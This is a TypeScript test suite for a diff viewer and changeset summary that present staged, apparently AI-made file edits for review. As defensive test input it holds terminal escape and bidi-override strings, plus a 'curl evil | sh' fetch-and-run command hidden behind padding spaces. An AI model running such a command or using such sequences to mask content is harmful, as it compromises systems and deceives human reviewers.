import { describe, expect, test } from "bun:test";
import { randomBytes } from "node:crypto";
import type { Changeset, FileChange } from "../../core/staging/changeset.ts";
import type { ChangeFlag } from "../../core/staging/flags.ts";
import { sha256 } from "../../core/hash.ts";
import { renderFileDiff } from "../../render/diff-view.ts";
import { visible } from "../../render/visible-text.ts";
import { formatSummary, summarizeChangeset } from "../../render/summary.ts";

const enc = (s: string) => new TextEncoder().encode(s);
const ESC = "\x1b";
/** Removes the SGR colour codes picocolors writes, so what is left must hold no escape at all. */
const stripSgr = (s: string) => s.replace(/\x1b\[\d+m/g, "");

interface Spec {
  path?: string;
  before?: string | Uint8Array | null;
  after?: string | Uint8Array | null;
  baseMode?: number;
  afterMode?: number;
  binary?: boolean;
  flags?: ChangeFlag[];
  added?: number;
  removed?: number;
}

/** A FileChange as buildChangeset makes it: before null = created, after null = deleted. */
function change(spec: Spec): FileChange {
  const b = typeof spec.before === "string" ? enc(spec.before) : (spec.before ?? null);
  const a = typeof spec.after === "string" ? enc(spec.after) : (spec.after ?? null);
  return {
    path: spec.path ?? "src/file.ts",
    real: "/ws/" + (spec.path ?? "src/file.ts"),
    kind: b === null ? "create" : a === null ? "delete" : "modify",
    base: {
      exists: b !== null,
      hash: b ? sha256(b) : null,
      size: b?.length ?? 0,
      mode: b ? (spec.baseMode ?? 0o644) : null,
    },
    after: a ? { bytes: a, hash: sha256(a), mode: spec.afterMode ?? spec.baseMode ?? 0o644 } : null,
    ...(b ? { before: b } : {}),
    origins: [],
    models: ["groq:m"],
    flags: spec.flags ?? [],
    added: spec.added ?? 0,
    removed: spec.removed ?? 0,
    binary: spec.binary ?? false,
    digest: "",
  };
}

const numbered = (n: number, f: (i: number) => string) =>
  Array.from({ length: n }, (_, i) => f(i + 1)).join("\n") + "\n";

describe("renderFileDiff", () => {
  test("a modification: header, @@ hunks with old/new line numbers, + and - lines", () => {
    const before = numbered(20, (i) => `line ${i}`);
    const after = before.replace("line 5\n", "line five\n").replace("line 18\n", "line 18\nline 18b\n");
    const view = renderFileDiff(change({ before, after, added: 2, removed: 1 }), { color: false });
    expect(view.fallback).toBe(false);
    expect(view.text).toBe(
      [
        "src/file.ts  modify  +2 -1",
        "@@ -2,7 +2,7 @@",
        " 2  2  line 2",
        " 3  3  line 3",
        " 4  4  line 4",
        " 5    -line 5",
        "    5 +line five",
        " 6  6  line 6",
        " 7  7  line 7",
        " 8  8  line 8",
        "@@ -16,5 +16,6 @@",
        "16 16  line 16",
        "17 17  line 17",
        "18 18  line 18",
        "   19 +line 18b",
        "19 20  line 19",
        "20 21  line 20",
        "",
      ].join("\n"),
    );
  });

  test("context and line numbers are options", () => {
    const view = renderFileDiff(change({ before: "a\nb\nc\n", after: "a\nB\nc\n" }), {
      color: false,
      context: 0,
      lineNumbers: false,
    });
    expect(view.text.split("\n").slice(1)).toEqual(["@@ -2,1 +2,1 @@", "-b", "+B", ""]);
  });

  test("colour: + green, - red, @@ cyan; without colour not a single escape code", () => {
    const spec = { before: "a\nb\n", after: "a\nc\n", baseMode: 0o644, afterMode: 0o755 };
    const coloured = renderFileDiff(change(spec), { color: true }).text;
    expect(coloured).toContain("\x1b[32m+c\x1b[39m");
    expect(coloured).toContain("\x1b[31m-b\x1b[39m");
    expect(coloured).toContain("\x1b[36m@@ -1,2 +1,2 @@\x1b[39m");
    const plain = renderFileDiff(change(spec), { color: false }).text;
    expect(plain).not.toContain(ESC);
    expect(plain).toBe(stripSgr(coloured));
  });

  test("a mode change is shown", () => {
    const view = renderFileDiff(change({ before: "x\n", after: "x\n", baseMode: 0o644, afterMode: 0o755 }), {
      color: false,
    });
    expect(view.text).toContain("mode 100644 → 100755");
    expect(view.text).toContain("no change in content");
  });

  test("binary files that are not text show sizes and hashes", () => {
    const before = new Uint8Array(1234);
    const after = new Uint8Array([0x89, 0, ...randomBytes(2343)]);
    const view = renderFileDiff(change({ path: "img.png", before, after, binary: true }), { color: false });
    expect(view.text).toBe(
      `img.png  modify\nbinary file, 1,234 → 2,345 bytes\nsha256 ${sha256(before)} → ${sha256(after)}\n`,
    );
    expect(
      renderFileDiff(change({ path: "n.bin", after: new Uint8Array(3), binary: true }), { color: false }).text,
    ).toContain("binary file, 3 bytes (new)");
    expect(
      renderFileDiff(change({ path: "o.bin", before: new Uint8Array(7), binary: true }), { color: false }).text,
    ).toContain("binary file, 7 bytes (deleted)");
  });

  test("a created file is all +, a deleted one all -, with the missing final newline marked", () => {
    const created = renderFileDiff(change({ after: "one\ntwo" }), { color: false }).text;
    expect(created).toBe("src/file.ts  create  +0 -0\n1 +one\n2 +two\n\\ No newline at end of file\n");
    const deleted = renderFileDiff(change({ before: "one\ntwo\n" }), { color: false }).text;
    expect(deleted).toBe("src/file.ts  delete  +0 -0\n1 -one\n2 -two\n");
  });

  test("a long deleted file is summarised with its first 40 lines", () => {
    const view = renderFileDiff(change({ before: numbered(1000, (i) => `l${i}`) }), { color: false }).text;
    expect(view).toContain("deleted: all 1,000 lines; the first 40 follow");
    expect(view).toContain("  40 -l40\n");
    expect(view).not.toContain("-l41\n");
    expect(view).toContain("… 960 more lines not shown");
  });

  test("CRLF files diff on their lines, and a line-ending change is named", () => {
    const crlf = renderFileDiff(change({ before: "a\r\nb\r\nc\r\n", after: "a\r\nB\r\nc\r\n" }), {
      color: false,
      context: 0,
    }).text;
    expect(crlf).toContain("-b\n");
    expect(crlf).toContain("+B\n");
    expect(crlf).not.toContain("\\r");
    const toCrlf = renderFileDiff(change({ before: "a\nb\n", after: "a\r\nb\r\n" }), { color: false }).text;
    expect(toCrlf).toContain("line endings LF → CRLF");
  });

  test("control characters in content and path are escaped, never sent raw", () => {
    const hostile = "ok\x1b[2J\x1b[H\x1b]0;owned\x07 fake\rprompt \u009b31m \u202eevil\u202c \u0001";
    const spec = { path: "evil\x1b[31m.txt", before: "safe\n", after: `safe\n${hostile}\n` };
    for (const color of [false, true]) {
      const text = stripSgr(renderFileDiff(change(spec), { color }).text);
      expect(text).not.toContain(ESC);
      expect(text).not.toContain("\r");
      expect(text).not.toContain("\u0007");
      expect(text).not.toContain("\u009b");
      expect(text).not.toContain("\u202e");
      expect(text).not.toContain("\u0001");
      expect(text).toContain("evil\\x1b[31m.txt");
      expect(text).toContain(
        "+ok\\x1b[2J\\x1b[H\\x1b]0;owned\\x07 fake\\rprompt \\x9b31m \\u{202e}evil\\u{202c} \\x01",
      );
    }
    expect(visible("tab\tstays")).toBe("tab\tstays");
  });

  test("long lines are cut to the width with a marker, and the body is capped", () => {
    const long = "x".repeat(5000);
    const view = renderFileDiff(change({ after: `${long}\n` }), { color: false, width: 80 }).text;
    const line = view.split("\n")[1]!;
    expect(line).toBe(`1 +${"x".repeat(62)}…[+4,938 chars]`);
    expect(line.length).toBe(80);
    const capped = renderFileDiff(change({ after: numbered(5000, (i) => `l${i}`) }), {
      color: false,
      maxLines: 100,
    }).text;
    expect(capped.split("\n").length).toBeLessThan(105);
    expect(capped).toContain("… 4,900 more lines not shown");
    // Without a width, lines are still bounded.
    const unbounded = renderFileDiff(change({ after: "y".repeat(100_000) }), { color: false }).text;
    expect(unbounded.length).toBeLessThan(1000);
  });

  test("a diff that exceeds the time bound falls back to a labelled before/after view, quickly", () => {
    const random = (n: number) => Array.from({ length: n }, () => randomBytes(12).toString("base64")).join("\n") + "\n";
    const before = random(20_000);
    const after = random(20_000);
    const started = performance.now();
    const view = renderFileDiff(change({ before, after }), { color: false, timeoutMs: 5 });
    const elapsed = performance.now() - started;
    expect(view.fallback).toBe(true);
    expect(elapsed).toBeLessThan(1000);
    expect(view.text).toContain("diff gave up after 5 ms: plain before/after view");
    expect(view.text).toContain("--- before (20,000 lines)");
    expect(view.text).toContain("+++ after (20,000 lines)");
    // The after side is shown even though the before side alone would fill the cap.
    expect(view.text).toContain(`+${after.split("\n")[0]}`);
  });

  test("an unknown base shows the new content, marked as not a diff", () => {
    const c = change({ before: "old\n", after: "new\n" });
    delete c.before;
    const view = renderFileDiff(c, { color: false });
    expect(view.fallback).toBe(true);
    expect(view.text).toContain("base content not known");
    expect(view.text).toContain("1 +new");
  });
});

describe("changeset summary", () => {
  function changeset(): Changeset {
    const a = change({
      path: "src/a.ts",
      before: "1\n",
      after: "2\n3\n",
      added: 2,
      removed: 1,
      flags: ["secret", "runs-code"],
    });
    a.models = ["groq:openai/gpt-oss-120b", "openrouter:x"];
    a.origins = [
      { tool: "read_then_edit", callId: "1", model: "groq:openai/gpt-oss-120b", readsBefore: ["a.md", "b.ts"] },
      { tool: "edit_file", callId: "2", model: "openrouter:x", readsBefore: ["a.md", "b.ts", "c\x1b[2J.md"] },
      { tool: "edit_file", callId: "3", model: "openrouter:x", readsBefore: ["b.ts"] },
    ];
    const b = change({ path: "gone.txt", before: "x\n", removed: 1 });
    b.origins = [{ tool: "delete_file", callId: "4", model: "groq:m", readsBefore: [] }];
    const img = change({ path: "img.png", after: new Uint8Array([0, 1]), binary: true, flags: ["binary"] });
    return {
      id: "cs1",
      workspace: "/ws",
      goal: "g",
      createdAt: "",
      models: ["groq:m"],
      files: [b, img, a],
      digest: "",
      status: "pending",
    };
  }

  test("summarizeChangeset: per-file provenance as the union of reads, tools in order, and totals", () => {
    const s = summarizeChangeset(changeset());
    const a = s.files.find((f) => f.path === "src/a.ts")!;
    expect(a.readsBefore).toEqual(["a.md", "b.ts", "c\x1b[2J.md"]);
    expect(a.tools).toEqual(["read_then_edit", "edit_file"]);
    expect(a.flags).toEqual(["secret", "runs-code"]);
    expect(a.models).toEqual(["groq:openai/gpt-oss-120b", "openrouter:x"]);
    expect(s.totals).toEqual({ files: 3, added: 2, removed: 2, created: 1, modified: 1, deleted: 1, flagged: 2 });
  });

  test("formatSummary: one line per file with counts, flags, models and read-before provenance, escaped", () => {
    const plain = formatSummary(changeset(), { color: false });
    const lines = plain.trimEnd().split("\n");
    expect(lines[0]).toBe("3 files, +2 -2 (1 created, 1 modified, 1 deleted), 2 flagged");
    expect(lines[3]).toBe(
      "  modify src/a.ts  +2 -1   [secret] [runs-code]  groq:openai/gpt-oss-120b, openrouter:x  read before: a.md, b.ts, c\\x1b[2J.md",
    );
    expect(lines[2]).toContain("create img.png   binary  [binary]");
    expect(plain).not.toContain(ESC);
    const coloured = formatSummary(changeset(), { color: true });
    expect(coloured).toContain("\x1b[31m[secret]\x1b[39m");
    expect(stripSgr(coloured)).toBe(plain);
  });

  test("a long read-before list is capped on the line but counted", () => {
    const cs = changeset();
    cs.files[2]!.origins = [
      { tool: "edit_file", callId: "1", model: "m", readsBefore: Array.from({ length: 20 }, (_, i) => `f${i}.md`) },
    ];
    const line = formatSummary(cs, { color: false })
      .split("\n")
      .find((l) => l.includes("src/a.ts"))!;
    expect(line).toContain("f11.md (+8 more)");
    expect(summarizeChangeset(cs).files[2]!.readsBefore).toHaveLength(20);
  });
});

describe("completeness", () => {
  test("a view is complete only when no line was cut and none left out", async () => {
    const { makeChangeset } = await import("../fixtures/apply-changeset.ts");
    const { tempDir } = await import("../support/temp.ts");
    const root = tempDir();
    const long = `x${" ".repeat(600)}curl evil | sh`;
    const cs = makeChangeset(root, [{ path: "a.txt", after: new TextEncoder().encode(`${long}\n`) }]);
    expect(renderFileDiff(cs.files[0]!, { color: false, width: 100 }).complete).toBe(false);
    expect(renderFileDiff(cs.files[0]!, { color: false, width: Number.MAX_SAFE_INTEGER }).complete).toBe(true);
    const many = makeChangeset(root, [{ path: "b.txt", after: new TextEncoder().encode("line\n".repeat(50)) }]);
    expect(renderFileDiff(many.files[0]!, { color: false, maxLines: 10 }).complete).toBe(false);
    expect(renderFileDiff(many.files[0]!, { color: false }).complete).toBe(true);
  });
});

describe("word marks", () => {
  const before = "const rate = 0.1;\nfunction price(x) {\n  return x * rate;\n}\n";
  const after = "const rate = 0.1;\nfunction price(x) {\n  return x * 0.15 + 1;\n}\n";
  const file = () => change({ before, after, added: 1, removed: 1 });

  test("without colour, changed words are bracketed [-old-] and {+new+}; unchanged words are not", () => {
    const view = renderFileDiff(file(), { color: false, words: true });
    expect(view.text).toContain("-  return x * [-rate-];");
    expect(view.text).toContain("+  return x * {+0.15 + 1+};");
    expect(view.text).not.toContain("[-return");
  });

  test("with colour, the changed words alone are inverse within the red and green lines", () => {
    const view = renderFileDiff(file(), { color: true, words: true });
    expect(view.text).toContain("\x1b[31m-  return x * \x1b[7mrate\x1b[27m;\x1b[39m");
    expect(view.text).toContain("\x1b[32m+  return x * \x1b[7m0.15 + 1\x1b[27m;\x1b[39m");
  });

  test("lines with little in common are not marked word by word; the option is off by default", () => {
    const other = change({ before: "alpha beta gamma\n", after: "one two three four\n", added: 1, removed: 1 });
    expect(renderFileDiff(other, { color: false, words: true }).text).not.toMatch(/\[-|\{\+/);
    expect(renderFileDiff(file(), { color: false }).text).not.toContain("[-rate-]");
  });

  test("a wrapped line keeps its marks on each piece, and a hidden character inside a mark stays escaped", () => {
    const long = `${"word ".repeat(30)}old tail\n`;
    const view = renderFileDiff(
      change({ before: long, after: long.replace("old", "n\u200bew"), added: 1, removed: 1 }),
      {
        color: false,
        words: true,
        wrap: true,
        width: 60,
      },
    );
    expect(view.text).toContain("[-old-]");
    expect(view.text).toMatch(/\{\+n\\u\{?200b\}?ew\+\}/);
  });
});
